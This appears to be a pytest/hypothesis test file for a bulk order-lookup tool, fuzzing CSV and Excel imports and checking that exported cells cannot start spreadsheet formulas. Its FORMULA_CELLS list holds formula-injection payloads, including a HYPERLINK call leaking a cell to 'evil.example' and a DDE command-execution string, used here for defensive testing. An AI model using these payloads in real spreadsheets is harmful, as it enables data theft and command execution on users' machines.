"""Pasted text, CSV and Excel files made to break the import, and server text made to break the export.

The import either gives order ids (each non-blank, at most 50 characters, with
its row) or a ``TableError`` naming the file, sheet or column; never another
exception. The export, read back as a spreadsheet would read it, has no cell
that starts a formula, whatever the order ids and the server's reasons were.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import random
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from msp_desk.api.models import Order
from msp_desk.bulk.export import COLUMNS, clipboard_text, save_csv, save_xlsx
from msp_desk.bulk.files import open_table, read_ids
from msp_desk.bulk.ids import MAX_ORDER_ID_LENGTH, OrderIds, from_text
from msp_desk.bulk.results import LookupResult, Outcome
from msp_desk.bulk.tables import TableError
from tests.helpers.nasty import nasty_text

FORMULA_CELLS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    " =1+1",
    "\u3000=1+1",
    "＝1+1",
]
"""What a spreadsheet may run: OWASP's starts, the null character (ASVS 1.2.10), and the same after spaces."""

_SETTINGS = settings(
    max_examples=120,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


def check_ids(found: OrderIds) -> None:
    assert len(found.ids) == len(found.rows) == len(set(found.ids))
    for order_id in found.ids:
        assert order_id == order_id.strip()
        assert 1 <= len(order_id) <= MAX_ORDER_ID_LENGTH
    for skipped in found.skipped:
        assert skipped.describe()


@settings(max_examples=300, deadline=None)
@given(nasty_text(400))
@example("a\u2028b\u0085c\x1cd")
@example("x" * 10_000)
def test_any_pasted_text_gives_ids_with_their_lines(text: str) -> None:
    found = from_text(text)
    check_ids(found)
    lines = text.splitlines()
    for order_id, row in zip(found.ids, found.rows, strict=True):
        assert order_id in lines[row - 1]


def _try_import(path: Path, column: str | None = None) -> str:
    """The import as the screen and the command run it: the ids, or the TableError's message."""
    try:
        table = open_table(path)
        assert table.columns
        found = read_ids(table, column if column is not None else table.default_column or table.columns[0])
    except TableError as error:
        message = str(error)
    else:
        check_ids(found)
        return ""
    assert message.endswith("."), message
    assert path.name in message or "column" in message or "sheet" in message
    return message


_csv_cells = st.one_of(nasty_text(30), st.sampled_from(["order_id", "Order ID", "amount", '"', '""', "a,b"]))


@_SETTINGS
@given(
    content=st.one_of(
        st.binary(max_size=2000),
        st.lists(st.lists(_csv_cells, max_size=5), max_size=12)
        .map(lambda rows: "\n".join(",;\t|"[len(rows) % 4].join(row) for row in rows))
        .flatmap(
            lambda text: st.sampled_from(["utf-8", "utf-16", "cp1252", "utf-8-sig"]).map(
                lambda encoding: text.encode(encoding, "replace")
            )
        ),
    ),
    column=st.one_of(st.none(), nasty_text(10), st.sampled_from(["0", "1", "²", "99", "9" * 5000])),
)
@example(content=b"order_id\n1\n", column="²")
@example(content=b"order_id\n1\n", column="9" * 5000)
@example(content=b"\xef\xbb\xbf", column=None)
@example(content=b"\x00\x00\x00", column=None)
@example(content=b"\xff\xfe\x00", column=None)
@example(content=b'"unclosed\n1\n2', column=None)
def test_any_csv_bytes_give_ids_or_a_named_table_error(
    tmp_path: Path, content: bytes, column: str | None
) -> None:
    path = tmp_path / "orders.csv"
    path.write_bytes(content)
    _try_import(path, column)


def test_a_huge_line_is_named_not_a_crash(tmp_path: Path) -> None:
    path = tmp_path / "one-line.csv"
    path.write_bytes(b"order_id\n" + b"x" * 5_000_000)
    assert "cannot be read as CSV" in _try_import(path)


def _workbook_bytes(rows: list[list[object]]) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


_WORKBOOK = _workbook_bytes([["order_id", "amount"], ["o-1", 10], [10001, 2.5], ["=1+1", None]])


def _mutated(seed: int, how: str) -> bytes:
    """The sample workbook with one part broken: a member's bytes replaced, cut short, or bytes flipped."""
    rng = random.Random(seed)
    if how == "cut":
        return _WORKBOOK[: rng.randrange(len(_WORKBOOK))]
    if how == "flip":
        data = bytearray(_WORKBOOK)
        for _ in range(rng.randrange(1, 20)):
            data[rng.randrange(len(data))] = rng.randrange(256)
        return bytes(data)
    source = zipfile.ZipFile(io.BytesIO(_WORKBOOK))
    names = source.namelist()
    victim = rng.choice(names)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for name in names:
            data = source.read(name)
            if name == victim:
                choices = [b"", b"<x>", data[: len(data) // 2], bytes(rng.randrange(256) for _ in range(64))]
                data = rng.choice(choices)
            target.writestr(name, data)
    return out.getvalue()


@_SETTINGS
@given(seed=st.integers(0, 2**32), how=st.sampled_from(["member", "cut", "flip"]))
@example(seed=1, how="member")
def test_a_broken_workbook_is_named_not_a_crash(tmp_path: Path, seed: int, how: str) -> None:
    path = tmp_path / "orders.xlsx"
    path.write_bytes(_mutated(seed, how))
    _try_import(path)


# -- the export -------------------------------------------------------------------------------------

_text = st.one_of(nasty_text(40), st.sampled_from(FORMULA_CELLS))


@st.composite
def results(draw: st.DrawFn) -> list[LookupResult]:
    rows = []
    for index in range(draw(st.integers(1, 6))):
        order_id = draw(_text)
        if draw(st.booleans()):
            order = Order(
                order_id=order_id,
                status=draw(_text),
                financial_status=draw(_text),
                reason=draw(_text),
                currency=draw(st.sampled_from(["EUR", "JPY", "KWD", "", "=1+1"])),
                amount=draw(st.integers(-(10**12), 10**12)),
                created=draw(st.none() | st.datetimes(dt.datetime(1900, 1, 1), dt.datetime(9999, 1, 1))),
            )
            rows.append(LookupResult(index, order_id, Outcome.FOUND, order))
        else:
            rows.append(LookupResult(index, order_id, Outcome.FAILED, error=draw(_text)))
    return rows


def _no_formula(cell: object) -> None:
    if not isinstance(cell, str) or not cell:
        return
    shown = cell.lstrip(" \u3000\u00a0")
    assert not shown.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠")), repr(cell)
    assert not cell.startswith(("\t", "\r", "\n", "\x00")), repr(cell)


@_SETTINGS
@given(rows=results())
@example(rows=[LookupResult(i, cell, Outcome.FAILED, error=cell) for i, cell in enumerate(FORMULA_CELLS)])
@example(rows=[LookupResult(0, "o\x01\x0b", Outcome.FAILED, error="bad \x1b[31m\x00 text")])
@example(rows=[LookupResult(0, "o", Outcome.FAILED, error="\ud800")])  # a lone surrogate from JSON
def test_no_exported_cell_starts_a_formula(tmp_path: Path, rows: list[LookupResult]) -> None:
    save_csv(rows, tmp_path / "out.csv")
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as file:
        read = list(csv.reader(file))
    assert read[0] == list(COLUMNS)
    assert len(read) == len(rows) + 1
    for row in read[1:]:
        for cell in row:
            _no_formula(cell)

    pasted = list(csv.reader(io.StringIO(clipboard_text(rows), newline=""), dialect=csv.excel_tab))
    for row in pasted[1:]:
        for cell in row:
            _no_formula(cell)

    save_xlsx(rows, tmp_path / "out.xlsx")
    book = openpyxl.load_workbook(tmp_path / "out.xlsx")
    sheet = book.active
    assert sheet is not None
    assert sheet.max_row == len(rows) + 1
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", repr(cell.value)
            _no_formula(cell.value)


@pytest.mark.parametrize("cell", FORMULA_CELLS)
def test_each_formula_start_keeps_its_text_behind_an_apostrophe(cell: str) -> None:
    from msp_desk.bulk.export import neutralise

    assert neutralise(cell) == "'" + cell
